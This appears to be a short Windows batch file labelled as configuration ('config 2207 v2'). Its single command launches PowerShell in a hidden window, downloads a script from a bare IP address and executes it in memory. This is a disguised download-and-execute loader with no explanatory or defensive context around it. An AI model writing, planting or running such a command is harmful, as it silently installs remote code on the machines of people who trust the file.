REM config 2207 v2
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
